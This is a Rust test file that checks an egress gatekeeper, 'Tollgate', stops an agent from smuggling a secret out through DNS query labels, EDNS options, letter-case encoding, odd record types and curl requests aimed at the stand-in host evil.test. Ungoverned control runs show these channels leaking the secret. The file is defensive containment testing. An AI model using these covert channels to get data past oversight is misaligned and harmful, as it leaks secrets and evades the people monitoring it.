//! A query is a way out for data: what no rule permits is heard by nobody.

use hickory_proto::op::ResponseCode;
use hickory_proto::rr::RecordType;

use crate::common::has_program;
use crate::lab::*;

/// What the agent would like to get out, as it fits a label.
const SECRET: &str = "mzxw6ytboi4gk3tf";

/// Names that carry it and that no rule permits.
fn carriers() -> Vec<String> {
    let long = [SECRET; 3].join("-");
    vec![
        format!("{SECRET}.evil.test"),
        format!("{long}.{long}.{long}.evil.test"),
        format!("{SECRET}.mail.test"),
        format!("{SECRET}wild.test"),
        format!("{SECRET}.wild.test.evil.test"),
        format!("mail.test.{SECRET}.evil.test"),
        format!("_443._tcp.{SECRET}.evil.test"),
        format!("{SECRET}.internal"),
        format!("{SECRET}.local"),
        format!("{SECRET}.onion"),
        format!("{SECRET}.arpa"),
        format!("{SECRET}.in-addr.arpa"),
        format!("{SECRET}.ip6.arpa"),
        format!("{SECRET}.localhost"),
        format!("{SECRET}.host.docker.internal"),
        SECRET.to_owned(),
    ]
}

/// Every type that has a meaning, and some that have none.
const TYPES: [u16; 20] =
    [1, 2, 5, 6, 10, 12, 15, 16, 28, 33, 35, 43, 48, 52, 64, 65, 99, 255, 257, 65_400];

/// A query whose first label holds this, whatever it is.
fn with_label(label: &[u8], rest: &str) -> Vec<u8> {
    let plain = query(&format!("x.{rest}"), RecordType::A);
    let length = [u8::try_from(label.len()).unwrap()];
    [&plain[..12], &length, label, &plain[14..]].concat()
}

fn heard_secret(lab: &Lab) -> Vec<String> {
    let secret = SECRET.as_bytes();
    let mut heard = lab.zone.heard();
    heard.retain(|heard| {
        heard.bytes.to_ascii_lowercase().windows(secret.len()).any(|part| part == secret)
    });
    heard.into_iter().map(|heard| heard.name).collect()
}

#[test]
fn data_in_the_labels_of_names_that_no_rule_permits_is_heard_by_nobody() {
    let Some(lab) = Lab::new(RULES) else { return };
    for denied in ["explain", "refuse"] {
        lab.configure(&format!("[dns]\ndenied = \"{denied}\"\n{RULES}"));
        for transport in ["udp", "tcp"] {
            let mut steps = Vec::new();
            for carrier in carriers() {
                // One question for each carrier of every fourth type; all types for the first carrier.
                for code in TYPES.iter().step_by(if steps.len() < TYPES.len() { 1 } else { 4 }) {
                    let question = query(&carrier, RecordType::from(*code));
                    steps.push(step(transport, NOWHERE, &[&question]));
                }
            }
            // One label with a dot in it, a permitted name behind something that is no text.
            let dotted = format!("{SECRET}.wild");
            steps.push(step(transport, NOWHERE, &[&with_label(dotted.as_bytes(), "test")]));
            let binary = [&[0, 255, b'.'], SECRET.as_bytes()].concat();
            steps.push(step(transport, NOWHERE, &[&with_label(&binary, "wild.test")]));
            let answers = lab.ask(&steps);
            assert!(answers.iter().all(|answers| answers.len() == 1), "{denied} {transport}");
        }
    }
    assert!(lab.zone.names().is_empty(), "{:?}", lab.zone.names());
    let strayed = |frame: &crate::common::wire::Frame| frame.port == 53;
    assert_eq!(lab.world.arrived(strayed), 0);
    // The control: without Tollgate each of them is heard.
    let direct: Vec<String> = carriers()
        .iter()
        .map(|carrier| step("udp", ZONE, &[&query(carrier, RecordType::A)]))
        .collect();
    lab.ask_ungoverned(&direct);
    assert_eq!(heard_secret(&lab).len(), carriers().len());
    assert!(lab.world.arrived(strayed) >= carriers().len());
}

#[test]
fn beside_a_permitted_name_nothing_of_the_agents_choosing_is_heard() {
    let Some(lab) = Lab::new(RULES) else { return };
    let edns = query_with_edns("v4.test", RecordType::A, 1232);
    let option = |code: [u8; 2]| {
        let option = [&code[..], &[0, 16], SECRET.as_bytes()].concat();
        [&edns[..edns.len() - 2], &[0, 20], &option].concat()
    };
    let mut chaos = query("v4.test", RecordType::TXT);
    let last = chaos.len() - 1;
    chaos[last] = 3;
    let steps = [
        // Upper and lower case, one bit a letter.
        udp(&[&query("V4.tEsT", RecordType::A)]),
        // Cookie, padding, client subnet, an option that nobody knows.
        udp(&[&option([0, 10])]),
        udp(&[&option([0, 12])]),
        udp(&[&option([0, 8])]),
        udp(&[&option([0xfd, 0xe9])]),
        udp(&[&[&query("v4.test", RecordType::A), SECRET.as_bytes()].concat()]),
        udp(&[&chaos]),
        udp(&[&query("v4.test", RecordType::Unknown(65_400))]),
    ];
    let answers = lab.ask(&steps).concat();
    assert_eq!(
        answers[0].queries[0].name().to_ascii(),
        "V4.tEsT.",
        "the agent's spelling comes back"
    );
    assert!(answers[..5].iter().all(|answer| addresses(answer).len() == 1), "{answers:?}");
    assert_eq!(code(&answers[5]), ResponseCode::FormErr);
    assert_eq!(code(&answers[6]), ResponseCode::Refused);
    assert_eq!(heard_secret(&lab), Vec::<String>::new());
    assert_eq!(lab.zone.names(), ["v4.test."], "in one spelling");
    let known = [RecordType::A, RecordType::AAAA];
    assert!(lab.zone.heard().iter().all(|heard| known.contains(&heard.record_type)));
    // The control: without Tollgate spelling and options arrive as they are.
    let direct = |message: &[u8]| step("udp", ZONE, &[message]);
    lab.ask_ungoverned(&[direct(&query("V4.tEsT", RecordType::A)), direct(&option([0, 12]))]);
    assert!(lab.zone.names().contains(&"V4.tEsT.".to_owned()));
    assert_eq!(heard_secret(&lab).len(), 1);
}

#[test]
fn a_wildcard_rule_permits_names_and_with_them_what_they_carry() {
    let Some(lab) = Lab::new(RULES) else { return };
    let carrier = format!("{SECRET}.wild.test");
    assert_eq!(code(&lab.ask_one(&carrier, RecordType::A)), ResponseCode::NXDomain);
    // That is what the rule says. It is there to be seen in the audit log.
    assert!(!heard_secret(&lab).is_empty());
    let records = lab.records_of("dns_nxdomain");
    assert_eq!((records.len(), &records[0]["host"]), (1, &carrier.clone().into()));
    // The control: without the rule nobody hears it.
    let before = lab.zone.heard().len();
    lab.configure("[[agent]]\nname = \"worker\"\n[[rule]]\nname = \"one\"\nhosts = [\"www.wild.test\"]\naction = \"allow\"\n");
    assert_eq!(addresses(&lab.ask_one(&carrier, RecordType::A)).len(), 1);
    assert_eq!(lab.zone.heard().len(), before);
}

#[test]
fn data_in_the_hosts_of_requests_is_heard_by_nobody() {
    let Some(lab) = Lab::new(RULES).filter(|_| has_program("curl")) else { return };
    let carrier = format!("{SECRET}.evil.test");
    let (plain, tls) = (format!("http://{carrier}/"), format!("https://{carrier}/"));
    let host = format!("Host: {carrier}");
    let pinned = format!("{carrier}:443:{NOWHERE}");
    let attempts: [&[&str]; 6] = [
        &[&plain],
        &[&tls],
        &["--resolve", &pinned, &tls],
        &["-H", &host, "http://v4.test/"],
        &["-x", "http://v4.test:3128", &plain],
        &["-p", "-x", "http://v4.test:3128", &tls],
    ];
    for attempt in attempts {
        let curl = [
            "curl",
            "-sS",
            "-o",
            "/dev/null",
            "-w",
            "%{response_code} %{http_connect}",
            "--max-time",
            "50",
        ];
        let command: Vec<&str> = curl.iter().chain(attempt).copied().collect();
        let ended = lab.world.run(AGENT, &command);
        let refused = ["403", "421"].iter().any(|code| ended.stdout.contains(code));
        assert!(refused, "{attempt:?}: {ended:#?}");
    }
    assert_eq!(heard_secret(&lab), Vec::<String>::new());
    // The control: the first of them without Tollgate.
    lab.world.start_ungoverned(&[], &["curl", "-sS", "--max-time", "50", &plain]).wait();
    assert!(!heard_secret(&lab).is_empty());
}
